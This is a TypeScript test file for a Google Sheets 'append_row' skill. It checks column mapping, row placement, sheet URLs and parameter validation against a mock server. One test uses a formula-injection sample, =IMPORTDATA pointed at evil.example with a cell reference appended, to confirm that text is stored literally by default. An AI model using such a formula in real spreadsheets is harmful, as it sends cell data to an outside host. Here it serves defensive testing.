/** Rows that are added, as Google Sheets gets them. */
import { afterAll, expect, test } from 'vitest';
import { startSheetsServer } from '../../test/support/providers/google/sheetsServer.ts';
import { sheetsFailure, sheetsSkill } from '../../test/support/nodes/sheetsSkill.ts';
import { validateSkill } from '../register.ts';

const server = await startSheetsServer();
afterAll(() => server.close());

const append = (parameters: object) =>
  sheetsSkill(server, 'append_row', { spreadsheetId: 'orders', ...parameters });
const failure = (parameters: object) =>
  sheetsFailure(server, 'append_row', { spreadsheetId: 'orders', ...parameters });
const rows = () => server.sheet('orders').rows;

test('values stand under their headings, below the last row, whatever their order', async () => {
  server.put('orders', [
    ['Item', '', 'Paid', 'Price'],
    ['Lamp', 'x', true, 3.5],
  ]);
  const { text, data } = await append({ values: { Price: 4, Item: 'Wheel', Paid: false } });
  expect(rows()[2]).toEqual(['Wheel', null, false, 4]);
  expect(text).toBe('Added row 3 to Sheet1.');
  expect(data).toEqual({ spreadsheet_id: 'orders', sheet: 'Sheet1', row: 3, range: 'Sheet1!A3:D3' });
});

test('a list stands from the first column on; objects are JSON and null leaves a cell empty', async () => {
  server.put('orders', [['Item', 'Tags', 'Price', 'Note']]);
  await append({ values: ['Lamp', ['a', 'b'], null, { by: 'Ada' }] });
  expect(rows()[1]).toEqual(['Lamp', '["a","b"]', null, '{"by":"Ada"}']);
});

test('a list is the first row of a sheet that is empty', async () => {
  server.put('orders', []);
  expect((await append({ values: ['Lamp', 1] })).data).toMatchObject({ row: 1 });
});

test('what follows a table in the sheet is not overwritten', async () => {
  server.put('orders', [
    ['Item', 'Price'],
    ['Lamp', 1],
    [null, null, 'Total', 1],
  ]);
  await append({ values: { Item: 'Wheel', Price: 2 } });
  expect(rows()).toEqual([
    ['Item', 'Price'],
    ['Lamp', 1],
    ['Wheel', 2],
    [null, null, 'Total', 1],
  ]);
});

test('texts are stored as they are, unless somebody asks for them to be read', async () => {
  server.put('orders', [['A', 'B']]);
  const values = { A: '=IMPORTDATA("https://evil.example/?"&B1)', B: '007' };
  await append({ values });
  await append({ values, input: 'UserEntered' });
  expect(rows()[1]).toEqual([values.A, values.B]);
  expect(rows()[2]).toEqual([expect.objectContaining({ formula: values.A }), 7]);
});

test('a table may begin anywhere in a sheet of any name, and the spreadsheet be named by its URL', async () => {
  server.put('orders', [['a']]);
  server.addSheet('orders', "Ada's", [[], [null, 'Item', 'Price'], [null, 'Lamp', 1]]);
  const { data } = await append({
    spreadsheetId: 'https://docs.google.com/spreadsheets/d/orders/edit?usp=sharing',
    range: "'Ada''s'!B2:C",
    values: { Price: 2 },
  });
  expect(data).toMatchObject({ sheet: "Ada's", row: 4 });
  expect(server.sheet('orders', "Ada's").rows[3]).toEqual([null, null, 2]);
});

test('a URL names the sheet that it shows', async () => {
  server.put('urls', [['Item']]);
  server.addSheet('urls', 'Second', [['Item']]);
  const spreadsheetId = 'https://docs.google.com/spreadsheets/d/urls/edit?gid=1111#gid=1111';
  expect((await append({ spreadsheetId, values: ['a'] })).data).toMatchObject({ sheet: 'Second' });
  expect((await append({ spreadsheetId, sheet: 'Sheet1', values: ['a'] })).data).toMatchObject({
    sheet: 'Sheet1',
  });
  const gone = await failure({ spreadsheetId: spreadsheetId.replaceAll('1111', '77'), values: ['a'] });
  expect(gone).toMatchObject({
    reason: 'Refused',
    message: 'the spreadsheet has no sheet as the URL names; it has "Sheet1", "Second"',
  });
  const both = await failure({ spreadsheetId, sheet: 'Sheet1', range: 'Second!A1', values: ['a'] });
  expect(both.message).toBe('range: names another sheet than sheet does');
});

test.each<[string, (string | null)[][], object, RegExp]>([
  [
    'a heading that is not there',
    [['Item', 'Price']],
    { values: { Prize: 1 } },
    /^values\["Prize"\]: the sheet has no such heading; it has "Item", "Price"$/,
  ],
  [
    'a heading that is there twice',
    [['Item', 'Item']],
    { values: { Item: 1 } },
    /several columns with that heading/,
  ],
  ['headings of a sheet without', [], { values: { Item: 1 } }, /the first row of the table has no headings/],
  [
    'a table whose first column has no heading',
    [[null, 'Item']],
    { values: { Item: 1 } },
    /the first column of the table has no heading/,
  ],
  [
    'a column outside of the range',
    [['Item', 'Price']],
    { range: 'A:A', values: ['a', 1] },
    /^values\[1\]: is outside the range/,
  ],
  [
    'a text that no cell holds',
    [['Item']],
    { values: { Item: 'x'.repeat(50_001) } },
    /^values\["Item"\]: may have at most 50000 characters/,
  ],
])('%s is refused before anything is written', async (_what, sheet, parameters, message) => {
  server.put('orders', sheet);
  server.requests.length = 0;
  const error = await failure(parameters);
  expect(error).toMatchObject({
    reason: 'InvalidParameters',
    retryable: false,
    message: expect.stringMatching(message),
  });
  expect(server.requests.filter((request) => !request.startsWith('GET'))).toEqual([]);
});

test('an account of another provider is not shown to Google', async () => {
  server.requests.length = 0;
  const credential = async () => ({
    name: 'other',
    spec: { oauth2: { preset: 'microsoft' as const, clientID: 'a' } },
    secret: () => {
      throw new Error('it was asked for its token');
    },
  });
  const error = await sheetsFailure(server, 'append_row', { spreadsheetId: 'orders', values: ['a'] }, {
    credential,
  } as object);
  expect(error).toMatchObject({
    reason: 'InvalidParameters',
    message: 'the credential other is not a Google account',
  });
  expect(server.requests).toEqual([]);
});

test.each<[object, string[]]>([
  [
    {
      spreadsheetId: "{{ $('trigger').data_content.id }}",
      values: { Item: "{{ $('trigger').text_content }}" },
    },
    [],
  ],
  [{ values: ['a'] }, ['spreadsheetId: is missing']],
  [
    { spreadsheetId: 'https://example.com/', values: ['a'] },
    ['spreadsheetId: must be the id of a spreadsheet, or its URL'],
  ],
  [
    { spreadsheetId: '../files', values: ['a'] },
    ['spreadsheetId: must be the id of a spreadsheet, or its URL'],
  ],
  [{ spreadsheetId: 'a', values: {} }, ['values: must hold a value']],
  [
    { spreadsheetId: 'a', values: 'a' },
    ['values: must be an object of headings and values, or a list of values'],
  ],
  [{ spreadsheetId: 'a', values: ['a'], range: '1A' }, ['range: must be cells in A1 notation, such as A3:F']],
  [
    { spreadsheetId: 'a', values: ['a'], range: 'C:A' },
    ['range: must be cells in A1 notation, such as A3:F'],
  ],
  [
    { spreadsheetId: 'a', values: ['a'], row: 3 },
    [expect.stringMatching(/^there is no parameter named row; there are spreadsheetId, /)],
  ],
])('the parameters %j are checked with the workflow', (parameters, problems) => {
  expect(validateSkill('append_row', parameters as Record<string, unknown>)).toEqual(problems);
});
